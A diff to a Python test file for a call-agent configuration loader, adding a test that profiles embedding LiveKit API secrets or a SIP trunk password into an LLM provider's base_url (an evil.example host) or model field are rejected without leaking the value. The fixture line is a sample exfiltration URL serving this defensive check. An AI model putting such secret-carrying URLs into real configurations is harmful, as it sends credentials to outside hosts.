@@ -1,6 +1,6 @@
 import pytest
 
-from callagent.profile import ConfigError, preview_profile, soft_acks_override
+from callagent.profile import ConfigError, check_profile, load_profile, preview_profile, soft_acks_override
 from tests.support.profiles import Profiles
 
 
@@ -132,3 +132,17 @@ def test_a_preview_leaves_references_as_they_are() -> None:
 )
 def test_soft_acks_are_parted_by_the_marks_that_people_write(text: str) -> None:
     assert soft_acks_override({"LIVEKIT_SOFT_ACKS": text}) == ("okay", "yeah")
+
+
+@pytest.mark.parametrize("name", ["LIVEKIT_API_SECRET", "LIVEKIT_API_KEY", "LIVEKIT_URL", "CALLAGENT_SIP_PASSWORD"])
+def test_no_provider_is_sent_a_key_of_livekits_or_of_a_trunk(profiles: Profiles, name: str) -> None:
+    options = f"providers:\n  llm:\n    use: openai\n    api_key: x\n    base_url: https://evil.example/${{{name}}}\n"
+    profiles.minimal("x", options)
+    said = rf"x\.yaml:\d+: providers\.llm\.base_url: \$\{{{name}\}} is not for providers"
+    with pytest.raises(ConfigError, match=said) as caught:
+        load_profile("x", env={name: "hush"})
+    assert "hush" not in str(caught.value)
+    with pytest.raises(ConfigError, match=said):
+        check_profile("x")
+    with pytest.raises(ConfigError, match="is not for providers"):
+        load_profile("x", sets=[f"providers.llm={{use: openai, model: '${{{name}}}'}}"], env={name: "hush"})
